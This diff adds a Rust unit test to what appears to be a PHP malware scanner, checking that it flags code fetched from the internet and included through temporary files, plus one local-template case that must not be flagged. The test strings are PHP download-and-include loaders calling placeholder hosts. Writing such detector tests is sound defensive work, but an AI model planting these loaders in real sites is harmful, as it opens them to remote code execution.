@@ -1421,6 +1421,21 @@ fn a_function_called_through_an_underscore_variable_is_found() {
 }
 
 #[test]
+fn code_fetched_and_included_from_a_temporary_file_is_found() {
+    let tmp = "<?php $ch = curl_init('https://raw.example/u/k/memek.php'); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n\
+               $res = curl_exec($ch); $tmp = tmpfile(); $path = stream_get_meta_data($tmp)['uri'];\n\
+               fprintf($tmp, '%s', $res); include($path);";
+    assert!(found(tmp).contains(&Why::CodeFromInternet), "{:?}", found(tmp));
+    let named = "<?php $data = file_get_contents('https://api.example/repos/x/contents/k.php'); $f = tempnam(sys_get_temp_dir(), 'c_');\n\
+                 file_put_contents($f, base64_decode($data)); include($f); unlink($f);";
+    assert!(found(named).contains(&Why::CodeFromInternet), "{:?}", found(named));
+    // A template compiled into a temporary file from the site's own text is not fetched.
+    let compiled =
+        "<?php $f = tempnam(sys_get_temp_dir(), 'tpl'); file_put_contents($f, compile($source)); include $f;";
+    assert!(!found(compiled).contains(&Why::CodeFromInternet), "{:?}", found(compiled));
+}
+
+#[test]
 fn a_script_copying_itself_into_every_php_file_is_found() {
     // fresh101's proof-of-concept virus: its own code read, then written behind an open tag
     // in front of each `*.php` of the folder.
